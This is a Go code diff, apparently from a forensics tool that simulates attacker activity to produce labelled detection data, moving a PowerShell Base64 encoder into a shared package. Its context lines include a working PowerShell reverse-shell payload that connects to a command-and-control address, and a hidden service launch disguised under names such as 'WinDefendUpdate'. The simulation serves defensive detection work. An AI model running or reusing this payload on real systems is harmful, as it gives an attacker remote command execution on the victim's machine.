@@ -1,11 +1,11 @@
 package simulate
 
 import (
-	"encoding/base64"
 	"fmt"
 	"strings"
 	"time"
-	"unicode/utf16"
+
+	"github.com/spoor-dfir/spoor/internal/pwsh"
 )
 
 // Benign look-alikes of the lateral-movement tradecraft, in normal life:
@@ -234,7 +234,7 @@ func (g *gen) lateral(s *session) {
 	// payload at boot.
 	t = t.Add(time.Duration(60+g.r.IntN(90)) * time.Second)
 	payload := "$c=New-Object Net.Sockets.TCPClient('" + c2IP + "',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){;$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write([text.encoding]::ASCII.GetBytes($r),0,$r.Length)}"
-	enc := encodePS(payload)
+	enc := pwsh.Encode(payload)
 	pname := []string{"WinDefendUpdate", "EdgeUpdateSvc", "OneSyncHelper"}[g.r.IntN(3)]
 	img := `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc ` + enc
 	lbl(src, "lateral_command", "rmmsessions", "service created from the RMM session",
@@ -290,14 +290,4 @@ func randLetters(g *gen, n int) string {
 		b[i] = c
 	}
 	return string(b)
-}
-
-// encodePS is PowerShell's -EncodedCommand form (UTF-16LE, base64).
-func encodePS(s string) string {
-	u := utf16.Encode([]rune(s))
-	b := make([]byte, 2*len(u))
-	for i, c := range u {
-		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
-	}
-	return base64.StdEncoding.EncodeToString(b)
 }
